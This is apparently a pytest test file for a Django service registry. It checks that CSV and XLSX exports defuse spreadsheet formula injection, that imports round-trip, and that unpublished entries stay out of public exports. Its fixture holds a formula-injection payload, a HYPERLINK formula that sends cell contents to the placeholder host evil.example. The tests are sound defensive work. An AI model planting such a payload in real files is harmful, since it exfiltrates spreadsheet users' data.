"""Exports are safe to open in a spreadsheet and public: formula text stays text, imports round-trip,
unpublished offers stay out; formula cells without a stored value are reported."""

import csv
import io
import json
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from integrationsatlas.interchange.cellsafe import neutralise, restore
from integrationsatlas.interchange.exporter import export_services
from integrationsatlas.interchange.importer import import_file
from integrationsatlas.interchange.problems import ImportRefused
from integrationsatlas.interchange.tabular import SHEET
from integrationsatlas.registry.models import Location, Organization, Service

from .conftest import make_csv, service_row

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+49 351 123", "'+49 351 123"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("＝1+1", "'＝1+1"),
        ("'s Gravenhage", "''s Gravenhage"),
        ("Beratung = Hilfe", "Beratung = Hilfe"),
        ("", ""),
    ],
)
def test_neutralise_follows_owasp_and_restore_undoes_it(value, written):
    assert neutralise(value) == written
    assert restore(written) == value


def test_restore_keeps_an_apostrophe_it_did_not_add():
    assert restore("'s Gravenhage") == "'s Gravenhage"


def _hostile_registry():
    Service.objects.all().delete()
    Location.objects.all().delete()
    result = import_file(
        make_csv([service_row(name=HOSTILE, phone="+49 351 4711", service_id="boese-1")]),
        "boese.csv",
        "csv",
    )
    assert not result.problems, result.problems
    return Service.objects.get(external_id="boese-1")


def test_csv_export_neutralises_formulas_and_imports_back_unchanged():
    service = _hostile_registry()
    data = export_services("csv")
    row = next(csv.DictReader(io.StringIO(data.decode())))
    assert row["name"] == "'" + HOSTILE
    assert row["phone"] == "'+49 351 4711"
    Service.objects.all().delete()
    Location.objects.all().delete()
    Organization.objects.all().delete()
    assert not import_file(data, "export.csv", "csv").problems
    again = Service.objects.get(external_id=service.external_id)
    assert (again.name, again.phone) == (HOSTILE, "+49 351 4711")
    assert export_services("csv") == data


def test_xlsx_export_writes_text_cells_never_formulas_and_round_trips():
    _hostile_registry()
    data = export_services("xlsx")
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    cells = load_workbook(io.BytesIO(data))[SHEET]
    header = [c.value for c in cells[1]]
    name = cells.cell(row=2, column=header.index("name") + 1)
    assert (name.value, name.data_type) == (HOSTILE, "s")
    Service.objects.all().delete()
    Location.objects.all().delete()
    Organization.objects.all().delete()
    assert not import_file(data, "export.xlsx", "xlsx").problems
    assert Service.objects.get().name == HOSTILE
    assert export_services("xlsx") == data


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "geojson", "hsds"])
def test_public_exports_hold_published_services_only(fmt):
    service = _hostile_registry()
    Service.objects.create(
        organization=service.organization,
        offer_type=service.offer_type,
        name="Noch nicht freigegeben",
        is_published=False,
    )
    Service.objects.create(
        organization=service.organization,
        offer_type=service.offer_type,
        name="Gelöscht",
        is_published=True,
        is_deleted=True,
    )
    data = export_services(fmt)
    text = (
        data.decode()
        if fmt != "xlsx"
        else json.dumps(
            [[c.value for c in row] for row in load_workbook(io.BytesIO(data))[SHEET].iter_rows()]
        )
    )
    assert "Noch nicht freigegeben" not in text
    assert "Gelöscht" not in text
    assert "evil.example" in text


def _xlsx_with_formula(cached: bool) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = SHEET
    rows = make_csv([service_row(service_id="formel-1")]).decode().splitlines()
    parsed = list(csv.reader(rows))
    sheet.append(parsed[0])
    sheet.append(parsed[1])
    column = parsed[0].index("capacity") + 1
    sheet.cell(row=2, column=column).value = "=1+1"
    raw = io.BytesIO()
    workbook.save(raw)
    data = raw.getvalue()
    if cached:  # what Excel or LibreOffice store: the formula and its last value
        archive = zipfile.ZipFile(io.BytesIO(data))
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as target:
            for info in archive.infolist():
                body = archive.read(info.filename)
                if info.filename == "xl/worksheets/sheet1.xml":
                    body = body.replace(b"<f>1+1</f><v></v>", b"<f>1+1</f><v>2</v>")
                    body = body.replace(b"<f>1+1</f><v />", b"<f>1+1</f><v>2</v>")
                target.writestr(info, body)
        data = out.getvalue()
    return data


def test_a_formula_cell_without_stored_value_is_reported_with_its_place():
    before = Service.objects.count()
    with pytest.raises(ImportRefused) as refused:
        import_file(_xlsx_with_formula(cached=False), "formel.xlsx", "xlsx")
    problem = refused.value.problems[0]
    assert (problem.row, problem.column) == (2, "capacity")
    assert problem.message.startswith("Formel ohne gespeicherten Wert")
    assert Service.objects.count() == before


def test_a_formula_cell_with_stored_value_counts_with_that_value():
    result = import_file(_xlsx_with_formula(cached=True), "formel.xlsx", "xlsx")
    assert not result.problems, result.problems
    assert Service.objects.get(external_id="formel-1").capacity == 2
